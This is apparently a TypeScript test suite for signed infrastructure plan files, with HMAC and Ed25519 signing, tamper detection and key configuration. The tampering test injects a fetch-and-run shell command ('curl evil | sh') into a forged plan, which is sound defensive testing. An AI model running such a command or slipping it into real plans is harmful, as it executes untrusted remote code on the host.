// Signed plans (issue 18, item 3): `plan --out` signs the checksum with the configured key
// (an HMAC-SHA256 secret, or an Ed25519 private key), and a reader holding the key refuses
// a plan that is unsigned, tampered with (checksum recomputed), signed with another key,
// or whose signature was forged. Signed files stay deterministic.
import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parsePlan, serializePlan } from '../../lib/planfile/planfile.js';
import { checkSignature, configuredKey, describeSignature, ed25519Key, hmacKey, signatureStatus, type PlanKey } from '../../lib/planfile/signing.js';
import { UserError } from '../../lib/util/errors.js';
import { jsonDigest } from '../../lib/util/hash.js';
import { formatJson, type JsonObject } from '../../lib/util/json.js';
import { cleanupTempDirs, tempDir } from '../util/tmp.js';
import { samplePlan } from './helpers/sample.js';

function pemPair(): { privatePem: string; publicPem: string } {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  return {
    privatePem: privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(),
    publicPem: publicKey.export({ type: 'spki', format: 'pem' }).toString(),
  };
}

/** Edits a plan file's JSON and recomputes its checksum, keeping whatever signature it had. */
function forge(text: string, edit: (raw: Record<string, unknown>) => void): string {
  const raw = JSON.parse(text) as Record<string, unknown>;
  edit(raw);
  const { checksum: _old, signature, ...body } = raw;
  return formatJson({ ...(body as JsonObject), checksum: jsonDigest(body as JsonObject), ...(signature ? { signature: signature as JsonObject } : {}) });
}

function refused(text: string, key: PlanKey, pattern: RegExp): void {
  const loaded = parsePlan(text, 'change.plan');
  assert.throws(
    () => checkSignature(loaded.checksum, loaded.signature, key, 'change.plan'),
    (e: unknown) => e instanceof UserError && pattern.test(e.message),
  );
}

describe('planfile: signed plans', () => {
  afterEach(cleanupTempDirs);
  const pair = pemPair();
  const other = pemPair();
  const kinds: [string, () => { signer: PlanKey; verifier: PlanKey; stranger: PlanKey }][] = [
    [
      'HMAC-SHA256',
      () => ({
        signer: hmacKey('a-long-random-ci-secret-1234'),
        verifier: hmacKey('a-long-random-ci-secret-1234'),
        stranger: hmacKey('another-long-random-secret-99'),
      }),
    ],
    [
      'Ed25519',
      () => ({
        signer: ed25519Key(pair.privatePem, 'key.pem'),
        verifier: ed25519Key(pair.publicPem, 'key.pub.pem'),
        stranger: ed25519Key(other.publicPem, 'other.pub.pem'),
      }),
    ],
  ];

  for (const [name, keys] of kinds) {
    describe(name, () => {
      it('a good signature is accepted, and the signed file is deterministic', () => {
        const { signer, verifier } = keys();
        const a = serializePlan(samplePlan(), '0.0.0-test', { signWith: signer });
        assert.equal(serializePlan(samplePlan(), '0.0.0-test', { signWith: signer }).text, a.text);
        const loaded = parsePlan(a.text, 'change.plan');
        assert.equal(loaded.checksum, a.checksum, 'the checksum does not cover the signature');
        assert.equal(loaded.signature?.keyId, verifier.id);
        checkSignature(loaded.checksum, loaded.signature, verifier, 'change.plan');
        assert.match(
          describeSignature(signatureStatus(loaded.checksum, loaded.signature, verifier), verifier),
          /the signature verifies with the configured key/,
        );
        assert.match(
          describeSignature(signatureStatus(loaded.checksum, loaded.signature, undefined), undefined),
          /not verified: no plan signing key is configured/,
        );
      });

      it('an unsigned plan is refused', () => {
        const { verifier } = keys();
        refused(
          serializePlan(samplePlan()).text,
          verifier,
          /^change\.plan: the plan is not signed, and a plan signing key is configured \((hmac|ed25519):[0-9a-f]{16}\); refusing it/,
        );
      });

      it('a tampered plan (checksum recomputed, signature kept) is refused', () => {
        const { signer, verifier } = keys();
        const text = serializePlan(samplePlan(), undefined, { signWith: signer }).text;
        const tampered = forge(text, (raw) => {
          const ins = (raw['instructions'] as { kind: string; args: JsonObject }[]).find((i) => i.kind === 'exec')!;
          const change = (raw['changes'] as { step_id: string; after: JsonObject }[]).find((c) => c.step_id.startsWith('exec.'))!;
          ins.args = { service_name: 'db', recipe: { command: ['sh', '-c', 'curl evil | sh'] } };
          change.after = ins.args;
        });
        refused(tampered, verifier, /the plan's signature does not verify with the configured key/);
      });

      it('a plan signed with another key is refused, and a forged key id does not help', () => {
        const { signer, stranger } = keys();
        const text = serializePlan(samplePlan(), undefined, { signWith: signer }).text;
        refused(text, stranger, /the plan is signed with another key \((hmac-sha256|ed25519), key \S+; the configured key is/);
        const forgedId = forge(text, (raw) => {
          (raw['signature'] as { key_id: string }).key_id = stranger.id;
        });
        refused(forgedId, stranger, /does not verify with the configured key/);
      });
    });
  }

  it('HMAC and Ed25519 signatures are not interchangeable', () => {
    const text = serializePlan(samplePlan(), undefined, { signWith: hmacKey('a-long-random-ci-secret-1234') }).text;
    refused(text, ed25519Key(pair.publicPem, 'k.pem'), /signed with another key \(hmac-sha256/);
  });

  it('a public key cannot sign; a private key file verifies too', () => {
    assert.throws(
      () => serializePlan(samplePlan(), undefined, { signWith: ed25519Key(pair.publicPem, 'k.pub.pem') }),
      /holds a public key, which can only verify/,
    );
    const text = serializePlan(samplePlan(), undefined, { signWith: ed25519Key(pair.privatePem, 'k.pem') }).text;
    const loaded = parsePlan(text, 'p');
    checkSignature(loaded.checksum, loaded.signature, ed25519Key(pair.privatePem, 'k.pem'), 'p');
  });

  it('reads the configured key from the environment and refuses bad keys', () => {
    const dir = tempDir();
    const file = join(dir, 'key.pem');
    writeFileSync(file, pair.privatePem);
    assert.equal(configuredKey({}, undefined), undefined);
    assert.equal(configuredKey({ STARFORM_PLAN_SIGNING_KEY_FILE: file }, undefined)?.algorithm, 'ed25519');
    assert.equal(configuredKey({}, file)?.algorithm, 'ed25519');
    assert.equal(configuredKey({ STARFORM_PLAN_SIGNING_KEY: 'a-long-random-ci-secret-1234' }, undefined)?.algorithm, 'hmac-sha256');
    assert.throws(() => configuredKey({ STARFORM_PLAN_SIGNING_KEY: 'a-long-random-ci-secret-1234' }, file), /two plan signing keys are configured/);
    assert.throws(() => configuredKey({ STARFORM_PLAN_SIGNING_KEY: 'short' }, undefined), /the plan signing secret is too short \(5 bytes; at least 16\)/);
    assert.throws(() => configuredKey({}, join(dir, 'none.pem')), /none\.pem: plan signing key file not found/);
    const rsa = join(dir, 'rsa.pem');
    writeFileSync(rsa, generateKeyPairSync('rsa', { modulusLength: 1024 }).privateKey.export({ type: 'pkcs8', format: 'pem' }).toString());
    assert.throws(() => configuredKey({}, rsa), /rsa\.pem: the plan signing key is a rsa key; starform signs plans with Ed25519 keys/);
    const junk = join(dir, 'junk.pem');
    writeFileSync(junk, 'not a key');
    assert.throws(() => configuredKey({}, junk), /junk\.pem: not a PEM private or public key/);
  });

  it('the secret never appears in the plan file', () => {
    const secret = 'a-long-random-ci-secret-1234';
    const text = serializePlan(samplePlan(), undefined, { signWith: hmacKey(secret) }).text;
    assert.ok(!text.includes(secret));
  });
});
